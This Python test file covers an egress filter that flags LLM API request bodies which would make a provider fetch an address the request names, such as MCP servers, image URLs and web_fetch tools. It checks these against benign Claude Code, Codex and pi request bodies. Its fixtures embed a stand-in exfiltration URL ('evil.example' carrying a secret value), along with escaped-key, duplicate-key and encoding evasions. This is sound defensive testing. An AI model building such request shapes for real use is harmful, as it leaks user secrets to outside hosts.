"""Provider-side fetches (``egress.server_fetch``): every shape that makes the provider reach an
address the request names is found, with its JSON path; what the agents send every day is not.

The benign bodies are built the way Claude Code, Codex and pi build theirs (system prompt, tool
schemas with a ``url`` property, replayed tool calls to fetch tools, tool results quoting URLs and
JSON, base64 images, ``data:`` image URLs), so a rule that flags them fails here before it fails
in a bottle.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import time
import unittest
from typing import Any

from bot_bottle.sidecar.egress import server_fetch as sf

EVIL = "https://evil.example/?d=SECRET-VALUE-1234"


# -- request bodies as the agents send them --------------------------------------------------------

def _text(rng: random.Random, n: int) -> str:
    words = ("the", "proxy", "def", "return", "class", "import", "https://docs.python.org/3/", "url", "value",
             '{"type": "url", "url": "https://example.com/a.png"}', "image_url", "mcp_servers", "\"quoted\"",
             "server_url", "tool", "\\u0041", "file_url", "web_fetch", "naïve", "日本", "\n", "\t")
    return " ".join(rng.choice(words) for _ in range(n))


def _png(rng: random.Random, size: int) -> str:
    return base64.b64encode(rng.randbytes(size)).decode()


ANTHROPIC_TOOLS: list[dict[str, Any]] = [
    {"name": "Bash", "description": "Executes a given bash command.",
     "input_schema": {"type": "object", "properties": {"command": {"type": "string"}, "timeout": {"type": "number"}},
                      "required": ["command"], "additionalProperties": False,
                      "$schema": "http://json-schema.org/draft-07/schema#"}},
    {"name": "WebFetch", "description": "- Fetches content from a specified URL and processes it",
     "input_schema": {"type": "object", "properties": {
         "url": {"type": "string", "format": "uri", "description": "The URL to fetch content from"},
         "prompt": {"type": "string"}}, "required": ["url", "prompt"]}},
    {"name": "WebSearch", "description": "Searches the web",
     "input_schema": {"type": "object", "properties": {"query": {"type": "string"},
                                                       "allowed_domains": {"type": "array", "items": {"type": "string"}}}}},
    {"name": "mcp__github__create_issue", "description": "Create an issue (an MCP tool run by the agent itself)",
     "input_schema": {"type": "object", "properties": {"repo": {"type": "string"}, "url": {"type": "string"}}}},
]


def claude_code_body(target: int, seed: int = 1) -> bytes:
    """A Claude Code Messages request of about ``target`` bytes: a long session with fetches,
    tool results that quote URLs and JSON, and pasted screenshots (base64)."""
    rng = random.Random(seed)
    messages: list[dict[str, Any]] = [{"role": "user", "content": [{"type": "text", "text": "fix the proxy"}]}]
    size, i = 0, 0
    while size < target:
        i += 1
        call = f"toolu_{i:020d}"
        messages.append({"role": "assistant", "content": [
            {"type": "text", "text": _text(rng, 40)},
            {"type": "tool_use", "id": call, "name": "WebFetch",
             "input": {"url": f"https://docs.example.org/page/{i}", "prompt": "summarise"}}]})
        result: list[dict[str, Any]] = [{"type": "text", "text": _text(rng, 600)}]
        if i % 7 == 0:
            result.append({"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                       "data": _png(rng, 60_000)}})
        messages.append({"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": call, "content": result},
            {"type": "text", "text": "<system-reminder>" + _text(rng, 30) + "</system-reminder>",
             "cache_control": {"type": "ephemeral"}}]})
        size += sum(len(json.dumps(m)) for m in messages[-2:])
    body = {
        "model": "claude-sonnet-4-5-20250929", "max_tokens": 32000, "stream": True,
        "system": [{"type": "text", "text": "You are Claude Code, Anthropic's official CLI for Claude."},
                   {"type": "text", "text": _text(rng, 2000), "cache_control": {"type": "ephemeral"}}],
        "tools": ANTHROPIC_TOOLS, "messages": messages, "metadata": {"user_id": "user_abc_account__session_x"},
        "thinking": {"type": "enabled", "budget_tokens": 8000},
    }
    return json.dumps(body).encode()


def codex_body(target: int, seed: int = 2) -> bytes:
    """A Codex Responses request: function calls with string arguments, outputs, a screenshot as
    a ``data:`` image URL, encrypted reasoning, and cached web search (allowed)."""
    rng = random.Random(seed)
    items: list[dict[str, Any]] = [{"type": "message", "role": "user",
                                    "content": [{"type": "input_text", "text": "add a test"}]}]
    size, i = 0, 0
    while size < target:
        i += 1
        args = json.dumps({"command": ["bash", "-lc", f"curl -s https://example.com/{i}"], "workdir": "/w"})
        items += [
            {"type": "reasoning", "summary": [], "encrypted_content": _png(rng, 900)},
            {"type": "function_call", "name": "shell", "arguments": args, "call_id": f"call_{i}"},
            {"type": "function_call_output", "call_id": f"call_{i}", "output": _text(rng, 500)},
        ]
        if i % 9 == 0:
            items.append({"type": "message", "role": "user", "content": [
                {"type": "input_image", "image_url": "data:image/png;base64," + _png(rng, 50_000)}]})
        size += sum(len(json.dumps(it)) for it in items[-4:])
    body = {
        "model": "gpt-5-codex", "instructions": _text(rng, 1500), "input": items,
        "tools": [{"type": "function", "name": "shell", "description": "Runs a shell command", "strict": False,
                   "parameters": {"type": "object", "properties": {"command": {"type": "array"},
                                                                   "url": {"type": "string"}}}},
                  {"type": "web_search", "external_web_access": False}],
        "tool_choice": "auto", "parallel_tool_calls": False, "reasoning": {"effort": "medium", "summary": "auto"},
        "store": False, "stream": True, "include": ["reasoning.encrypted_content"], "prompt_cache_key": "abc",
    }
    return json.dumps(body).encode()


def pi_body(seed: int = 3) -> bytes:
    """A pi request (Anthropic Messages): its own tools, an image read from disk, thinking."""
    rng = random.Random(seed)
    return json.dumps({
        "model": "claude-opus-4-1", "max_tokens": 16000, "stream": True,
        "system": [{"type": "text", "text": "You are an expert coding assistant."}],
        "tools": [{"name": "read", "description": "Read a file",
                   "input_schema": {"type": "object", "properties": {"path": {"type": "string"}}}}],
        "messages": [
            {"role": "user", "content": [{"type": "text", "text": "look at this"},
                                         {"type": "image", "source": {"type": "base64", "media_type": "image/jpeg",
                                                                      "data": _png(rng, 20_000)}}]},
            {"role": "assistant", "content": [{"type": "thinking", "thinking": "hm", "signature": "c2ln"},
                                              {"type": "tool_use", "id": "t1", "name": "read",
                                               "input": {"path": "README.md", "image_url": EVIL}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                          "content": "see https://evil.example/ and \"image_url\": \"" + EVIL + "\""}]},
            {"role": "user", "content": [
                {"type": "search_result", "source": "https://example.com/page", "title": "t",
                 "content": [{"type": "text", "text": "x"}]},
                {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "x"},
                 "citations": {"enabled": True}},
                {"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBERi0="}},
                {"type": "image", "source": {"type": "file", "file_id": "file_011"}},
                {"type": "web_search_tool_result", "tool_use_id": "s1", "content": [
                    {"type": "web_search_result", "url": "https://example.com", "title": "t", "encrypted_content": "e"}]},
                {"type": "web_fetch_tool_result", "tool_use_id": "f1", "content": {
                    "type": "web_fetch_result", "url": "https://example.com",
                    "content": {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "x"}}}},
            ]},
        ],
    }).encode()


def encode(doc: Any) -> bytes:
    return json.dumps(doc).encode()


# -- the shapes that make the provider fetch --------------------------------------------------------

OPENAI_MCP = {"model": "gpt-5", "input": "hi", "tools": [
    {"type": "function", "name": "f", "parameters": {"type": "object"}},
    {"type": "web_search"},
    {"type": "mcp", "server_label": "evil", "server_url": EVIL, "require_approval": "never"}]}
OPENAI_CONNECTOR = {"model": "gpt-5", "input": "hi", "tools": [
    {"type": "mcp", "server_label": "drive", "connector_id": "connector_googledrive", "authorization": "x"}]}
ANTHROPIC_MCP = {"model": "claude", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}],
                 "mcp_servers": [{"type": "url", "url": EVIL, "name": "evil"}]}
ANTHROPIC_MCP_TOOLSET = {"model": "claude", "messages": [], "tools": [{"type": "mcp_toolset", "mcp_server_name": "e"}]}
ANTHROPIC_WEB_FETCH = {"model": "claude", "messages": [{"role": "user", "content": "fetch " + EVIL}],
                       "tools": [{"type": "web_search_20250305", "name": "web_search"},
                                 {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5}]}
ANTHROPIC_IMAGE_URL = {"model": "claude", "messages": [{"role": "user", "content": [
    {"type": "text", "text": "what is this"}, {"type": "image", "source": {"type": "url", "url": EVIL}}]}]}
ANTHROPIC_DOCUMENT_URL = {"model": "claude", "system": [{"type": "text", "text": "x"}], "messages": [
    {"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": EVIL}}]}]}
ANTHROPIC_TOOL_RESULT_IMAGE_URL = {"messages": [{"role": "user", "content": [
    {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}]}]}
ANTHROPIC_BATCH = {"requests": [{"custom_id": "a", "params": {
    "model": "claude", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}]}}]}
OPENAI_INPUT_IMAGE = {"model": "gpt-5", "input": [{"role": "user", "content": [
    {"type": "input_text", "text": "x"}, {"type": "input_image", "image_url": EVIL, "detail": "auto"}]}]}
OPENAI_INPUT_FILE = {"model": "gpt-5", "input": [{"role": "user", "content": [
    {"type": "input_file", "file_url": "https://evil.example/f.pdf"}]}]}
OPENAI_OUTPUT_IMAGE = {"model": "gpt-5", "input": [{"type": "function_call_output", "call_id": "c", "output": [
    {"type": "input_image", "image_url": EVIL}]}]}
CHAT_IMAGE_URL = {"model": "gpt-4o", "messages": [{"role": "user", "content": [
    {"type": "text", "text": "x"}, {"type": "image_url", "image_url": {"url": EVIL, "detail": "low"}}]}]}
OPENAI_HOSTED_SHELL = {"model": "gpt-5", "input": "x", "tools": [{"type": "shell", "environment": {
    "type": "container_auto", "network_policy": {"type": "allowlist", "allowed_domains": ["evil.example"]}}}]}
OPENAI_REALTIME = {"type": "session.update", "session": {"tools": [{"type": "mcp", "server_url": EVIL}]}}

SHAPES = {
    "openai mcp tool": (OPENAI_MCP, "tools[2].type=mcp"),
    "openai connector": (OPENAI_CONNECTOR, "tools[0].type=mcp"),
    "anthropic mcp_servers": (ANTHROPIC_MCP, "mcp_servers[0]"),
    "anthropic mcp_toolset": (ANTHROPIC_MCP_TOOLSET, "tools[0].type=mcp_toolset"),
    "anthropic web_fetch": (ANTHROPIC_WEB_FETCH, "tools[1].type=web_fetch_20250910"),
    "anthropic image url": (ANTHROPIC_IMAGE_URL, "messages[0].content[1].source.url"),
    "anthropic document url": (ANTHROPIC_DOCUMENT_URL, "messages[0].content[0].source.url"),
    "anthropic tool_result image url": (ANTHROPIC_TOOL_RESULT_IMAGE_URL, "messages[0].content[0].content[0].source.url"),
    "anthropic batch": (ANTHROPIC_BATCH, "requests[0].params.messages[0].content[0].source.url"),
    "openai input_image": (OPENAI_INPUT_IMAGE, "input[0].content[1].image_url"),
    "openai input_file": (OPENAI_INPUT_FILE, "input[0].content[0].file_url"),
    "openai function output image": (OPENAI_OUTPUT_IMAGE, "input[0].output[0].image_url"),
    "chat completions image_url": (CHAT_IMAGE_URL, "messages[0].content[1].image_url.url"),
    "openai hosted shell network": (OPENAI_HOSTED_SHELL, "tools[0].environment.network_policy"),
    "openai realtime session": (OPENAI_REALTIME, "session.tools[0].type=mcp"),
}


class ShapesTest(unittest.TestCase):
    def test_every_shape_is_found_with_its_path(self) -> None:
        for name, (doc, where) in SHAPES.items():
            with self.subTest(name):
                found = sf.find([("content-type", "application/json")], encode(doc))
                self.assertIsNotNone(found)
                assert found is not None
                self.assertEqual(found.where, where)
                self.assertTrue(sf.might_fetch(encode(doc)))

    def test_the_finding_never_quotes_a_value_the_request_carries(self) -> None:
        secret_key = "ghp_" + "a" * 36
        doc = {"messages": [{"content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}],
               secret_key: {"type": "mcp", "server_url": EVIL}}
        found = sf.find([], encode({secret_key: [ANTHROPIC_IMAGE_URL]}))
        assert found is not None
        self.assertEqual(found.where, "?[0].messages[0].content[1].source.url")
        for found in (sf.find([], encode(doc)), sf.find([], encode({"tools": [{"type": "web_fetch_" + secret_key}]})),
                      sf.find([], encode({"tools": [{"type": "web_fetch_SECRET"}]}))):
            assert found is not None
            text = found.describe() + sf.describe_refusal(found)
            self.assertNotIn("SECRET", text)
            self.assertNotIn(secret_key, text)
            self.assertNotIn("evil.example", text)

    def test_compact_and_spaced_spellings(self) -> None:
        for raw in (b'{"messages":[{"content":[{"type":"image","source":{"url":"https://e/x","type" :\n "url"}}]}]}',
                    b'{"input":[{"content":[{"type":"input_image","image_url" : "https://e/x"}]}]}',
                    b'{"tools":[{"type":"mcp","server_label":"x","server_url":"https://e/"}]}'):
            with self.subTest(raw=raw):
                self.assertIsNotNone(sf.find([], raw))

    def test_escaped_keys_and_values_are_read_as_the_provider_reads_them(self) -> None:
        for raw in (rb'{"messages":[{"content":[{"type":"image","source":{"type":"\u0075rl","url":"https://e/"}}]}]}',
                    rb'{"input":[{"content":[{"type":"input_image","image\u005furl":"https://e/"}]}]}',
                    rb'{"tools":[{"type":"\u006dcp","server_url":"https://e/"}]}',
                    rb'{"m\u0063p_servers":[{"type":"url","url":"https://e/"}]}',
                    rb'{"tools":[{"type":"web\u005ffetch_20250910"}]}'):
            with self.subTest(raw=raw):
                self.assertIsNotNone(sf.find([], raw))

    def test_a_key_given_twice_is_refused_whichever_copy_python_keeps(self) -> None:
        raw = b'{"messages":[{"content":[{"type":"image","source":{"type":"url","type":"base64","url":"https://e/"}}]}]}'
        found = sf.find([], raw)
        assert found is not None
        self.assertEqual(found.where, "messages[0].content[0].source.type")
        self.assertIn("twice", found.what)

    def test_utf16_and_utf32_bodies_are_read(self) -> None:
        for codec in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"):
            with self.subTest(codec=codec):
                found = sf.find([], json.dumps(ANTHROPIC_IMAGE_URL).encode(codec))
                assert found is not None
                self.assertEqual(found.where, "messages[0].content[1].source.url")

    def test_a_compressed_body_is_read_decoded(self) -> None:
        raw = gzip.compress(encode(OPENAI_MCP))
        self.assertIsNone(sf.find([], raw[:0] + b"{}"))
        found = sf.find([("Content-Encoding", "gzip")], raw)
        assert found is not None
        self.assertEqual(found.where, "tools[2].type=mcp")
        broken = sf.find([("content-encoding", "gzip")], b"\x1f\x8b not gzip")
        assert broken is not None
        self.assertIn("does not decode", broken.what)

    def test_a_body_that_spells_a_field_but_is_not_one_json_document_is_refused(self) -> None:
        for raw in (b'{"tools":[{"type":"mcp"}]} trailing', b'{"tools":[{"type":"mcp",}]}',
                    b'{"custom_id":"a","body":{"tools":[{"type":"mcp"}]}}\n{"custom_id":"b"}\n',
                    b'{"image_url":"https://e/' + b"\xff\xfe" + b'"}'):
            with self.subTest(raw=raw):
                found = sf.find([], raw)
                assert found is not None
                self.assertEqual(found.where, "body")

    def test_nesting_past_the_bound_is_refused(self) -> None:
        deep = b'{"type":"url","x":' + b"[" * (sf.MAX_DEPTH + 5) + b"]" * (sf.MAX_DEPTH + 5) + b"}"
        found = sf.find([], deep)
        assert found is not None
        self.assertIn("nested", found.what)
        very_deep = b'{"mcp_servers":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        found = sf.find([], very_deep)
        assert found is not None
        self.assertIn("nested", found.what)

    def test_too_many_containers_are_refused(self) -> None:
        wide = b'{"type":"url","x":[' + b",".join([b"[]"] * (sf.MAX_CONTAINERS + 1)) + b"]}"
        found = sf.find([], wide)
        assert found is not None
        self.assertIn("objects and lists", found.what)

    def test_the_beta_header(self) -> None:
        for value in ("mcp-client-2025-04-04", "oauth-2025-04-20, mcp-client-2025-11-20", "web-fetch-2025-09-10",
                      "MCP-Client-2025-04-04"):
            with self.subTest(value=value):
                found = sf.find([("Anthropic-Beta", value)], b"")
                assert found is not None
                self.assertTrue(found.where.startswith("header anthropic-beta: "))
        self.assertIsNotNone(sf.find([("anthropic_beta", "mcp-client-2025-04-04")], b""))
        self.assertIsNotNone(sf.find([("anthropic-beta", "oauth-2025-04-20"),
                                      ("anthropic-beta", "mcp-client-2025-04-04")], b"{}"))
        for value in ("oauth-2025-04-20", "claude-code-20250219,interleaved-thinking-2025-05-14",
                      "fine-grained-tool-streaming-2025-05-14,context-1m-2025-08-07"):
            with self.subTest(value=value):
                self.assertIsNone(sf.find([("anthropic-beta", value)], b"{}"))
        for secret in ("mcp-client-ghp_" + "a" * 36, "mcp-client-s3cr3t", "web-fetch-2025-09-10x"):
            found = sf.find([("anthropic-beta", secret)], b"")
            assert found is not None
            self.assertEqual(found.where, f"header anthropic-beta: {secret.split('-')[0]}-{secret.split('-')[1]}-...")


class BenignTest(unittest.TestCase):
    def test_agents_everyday_bodies_are_not_flagged(self) -> None:
        bodies = {"claude code": claude_code_body(300_000), "codex": codex_body(300_000), "pi": pi_body()}
        for name, body in bodies.items():
            with self.subTest(name):
                self.assertIsNone(sf.find([("content-type", "application/json"),
                                           ("anthropic-beta", "oauth-2025-04-20,claude-code-20250219")], body))

    def test_claude_code_and_codex_bodies_are_not_even_parsed(self) -> None:
        # The cheap look answers for them: no spelling of a fetching field in their bytes.
        self.assertFalse(sf.might_fetch(claude_code_body(300_000)))
        self.assertFalse(sf.might_fetch(codex_body(300_000)))

    def test_data_urls_are_inline(self) -> None:
        png = "data:image/png;base64," + base64.b64encode(b"\x89PNG....").decode()
        for doc in ({"input": [{"content": [{"type": "input_image", "image_url": png}]}]},
                    {"input": [{"content": [{"type": "input_image", "image_url": " DATA:image/png;base64,AA"}]}]},
                    {"messages": [{"content": [{"type": "image_url", "image_url": {"url": png}}]}]},
                    {"input": [{"content": [{"type": "input_file", "file_url": "data:application/pdf;base64,JV"}]}]},
                    {"messages": [{"content": [{"type": "image", "source": {"type": "url", "url": png}}]}]}):
            with self.subTest(doc=doc):
                self.assertIsNone(sf.find([], encode(doc)))

    def test_mentions_in_text_schemas_metadata_and_replayed_calls_do_not_count(self) -> None:
        docs = [
            {"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t",
                                                        "content": json.dumps(ANTHROPIC_MCP)}]}]},
            {"messages": [{"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "view",
                                                             "input": ANTHROPIC_IMAGE_URL}]}]},
            {"messages": [{"role": "assistant", "content": [{"type": "server_tool_use", "id": "s", "name": "web_fetch",
                                                             "input": {"url": EVIL}}]}]},
            {"tools": [{"name": "t", "input_schema": {"type": "object", "properties": {
                "mcp_servers": {"type": "array"}, "server_url": {"type": "string"},
                "source": {"type": "object", "properties": {"type": {"const": "url"}}}}}}]},
            {"tools": [{"type": "function", "name": "f", "parameters": OPENAI_MCP}]},
            {"text": {"format": {"type": "json_schema", "name": "x", "schema": OPENAI_HOSTED_SHELL}}},
            {"metadata": {"server_url": EVIL}, "messages": []},
            {"input": [{"type": "function_call", "name": "f", "arguments": json.dumps(OPENAI_MCP)}]},
            {"tools": [{"type": "web_search", "external_web_access": True}, {"type": "web_search_20250305"}]},
            {"tools": [{"type": "shell", "environment": {"type": "container_auto",
                                                         "network_policy": {"type": "disabled"}}}]},
            {"mcp_servers": [], "messages": []},
            {"input": [{"type": "mcp_list_tools", "server_label": "x", "tools": []}]},
        ]
        for doc in docs:
            with self.subTest(doc=doc):
                self.assertIsNone(sf.find([], encode(doc)))

    def test_odd_values_where_names_are_expected_are_read_without_error(self) -> None:
        # Each spells a fetching field, so each is parsed and walked; none asks for a fetch.
        for doc in ({"type": [], "source": {"type": {"url": 1}}, "image_url": 5, "mcp_servers": 0,
                     "network_policy": None, "file_url": ["https://e/"], "tools": [{"type": {"x": "mcp"}}]},
                    ["url", {"type": "url"}, [[{"type": None}]]], "mcp", 1, None):
            with self.subTest(doc=doc):
                self.assertIsNone(sf.find([], encode(doc)))

    def test_no_body_and_other_uploads(self) -> None:
        self.assertIsNone(sf.find([], b""))
        upload = (b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7\0\0\xff'
                  b'"url" "image_url" {"type": "text"}\r\n--b--\r\n')
        self.assertIsNone(sf.find([("content-type", "multipart/form-data; boundary=b")], upload))


class RefusalTest(unittest.TestCase):
    def test_the_refusal_names_the_rule_path_and_the_opt_out(self) -> None:
        found = sf.find([], encode(OPENAI_MCP))
        assert found is not None
        reason = sf.describe_refusal(found)
        self.assertIn("tools[2].type=mcp", reason)
        self.assertIn("server_fetch: allow", reason)


class CostTest(unittest.TestCase):
    """The check runs on every provider request: it must cost next to nothing when nothing is
    there (the common case), and stay small on a 5 MB session that must be parsed."""

    def test_a_5_mb_session_costs_milliseconds(self) -> None:
        body = claude_code_body(5 * 1024 * 1024)
        self.assertGreater(len(body), 5 * 1024 * 1024)
        start = time.perf_counter()
        self.assertIsNone(sf.find([], body))
        cheap = time.perf_counter() - start
        # Generous bound for slow CI machines; measured ~3 ms on a laptop-class core.
        self.assertLess(cheap, 0.25)
        # The same session with a screenshot pasted as a Chat Completions image part is parsed.
        doc = json.loads(body)
        doc["messages"][0]["content"].append({"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}})
        parsed = json.dumps(doc).encode()
        self.assertTrue(sf.might_fetch(parsed))
        start = time.perf_counter()
        self.assertIsNone(sf.find([], parsed))
        self.assertLess(time.perf_counter() - start, 2.0)


if __name__ == "__main__":
    unittest.main()
